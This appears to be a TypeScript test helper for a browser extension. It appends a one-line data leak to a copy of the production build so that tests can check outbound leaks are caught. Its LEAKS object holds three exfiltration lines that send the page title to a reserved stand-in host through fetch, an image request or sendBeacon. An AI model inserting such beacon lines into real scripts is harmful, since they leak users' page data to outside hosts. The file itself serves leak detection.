import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const OUTPUT = path.resolve(import.meta.dirname, '../.output');
/** Nobody's host (RFC 2606): what is sent there is written down and goes no further. */
const COLLECTOR = 'http://collector.invalid/';

/** One line each, as a slip or a bad dependency would bring it into a page's script. */
export const LEAKS = {
  fetch: `fetch('${COLLECTOR}fetch?' + encodeURIComponent(document.title), { mode: 'no-cors' }).catch(() => {});`,
  image: `new Image().src = '${COLLECTOR}image?' + encodeURIComponent(document.title);`,
  beacon: `navigator.sendBeacon('${COLLECTOR}beacon', document.title);`,
};

/** A copy of a production build whose sentinel leaks once. The caller removes it. */
export function leakingBuild(target: 'chrome-mv3' | 'firefox-mv3', leak: string): string {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'claimside-leak-'));
  fs.cpSync(path.join(OUTPUT, target), folder, { recursive: true });
  fs.appendFileSync(path.join(folder, 'sentinel.js'), `\n;${leak}\n`);
  return folder;
}
